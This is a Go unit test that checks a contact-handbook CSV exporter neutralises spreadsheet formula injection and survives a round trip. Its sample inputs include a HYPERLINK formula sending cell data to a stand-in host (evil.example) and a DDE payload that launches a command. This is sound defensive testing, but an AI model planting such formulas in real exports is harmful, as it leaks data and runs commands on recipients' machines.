package exchange

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"ernstfall/internal/handbook"
)

// TestCSVFormulaNeutralised: a cell that a spreadsheet would run as a
// formula (=, +, -, @, tab, carriage return first) is written with a
// leading apostrophe (OWASP's advice), and our own import takes it off
// again, so the round trip loses nothing — including values that start
// with an apostrophe themselves.
func TestCSVFormulaNeutralised(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Klick")`,
		"+49 171 39200 11",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"'=schon mit Apostroph",
		"''+zwei Apostrophe",
		"'nur Apostroph",
		"normal = harmlos",
	}
	var contacts []handbook.Contact
	for i, h := range hostile {
		contacts = append(contacts, handbook.Contact{
			Record: handbook.Record{ID: "01a0f6b1-2680-73cc-9707-00000000000" + string(rune('a'+i))},
			Name:   "Name " + h, Team: h, Function: h, PhoneMobile: h, Notes: h, Channels: h, Email: "x@example.org",
		})
	}
	for _, comma := range []rune{',', ';'} {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, contacts, CSVOptions{Comma: comma, BOM: true}); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), utf8BOM)))
		r.Comma = comma
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("column %s: cell %q starts a formula in a spreadsheet", Columns[i], cell)
				}
			}
		}
		got, err := ReadCSV("kontakte.csv", buf.Bytes())
		if err != nil || len(got.Problems) > 0 {
			t.Fatalf("read back: %v %v", err, got.Problems)
		}
		for i, c := range got.Contacts() {
			w := contacts[i]
			if strings.HasPrefix(hostile[i], "\t") {
				// A tab in a single-line field is a space (handbook.Clean).
				w.Team, w.Function, w.PhoneMobile, w.Channels, w.Name = " =1+1", " =1+1", " =1+1", "\t=1+1", "Name  =1+1"
			}
			if strings.HasPrefix(hostile[i], "\r") {
				// A CSV with CRLF line ends has no place for a lone CR:
				// it is dropped, as line breaks are normalised anyway.
				w.Team, w.Function, w.PhoneMobile, w.Notes, w.Channels, w.Name = "=1+1", "=1+1", "=1+1", "=1+1", "=1+1", "Name =1+1"
			}
			if c.Team != w.Team || c.Function != w.Function || c.PhoneMobile != w.PhoneMobile || c.Notes != w.Notes ||
				c.Channels != w.Channels || c.Name != w.Name {
				t.Errorf("round trip of %q: got team %q function %q phone %q notes %q", hostile[i], c.Team, c.Function, c.PhoneMobile, c.Notes)
			}
		}
	}
}
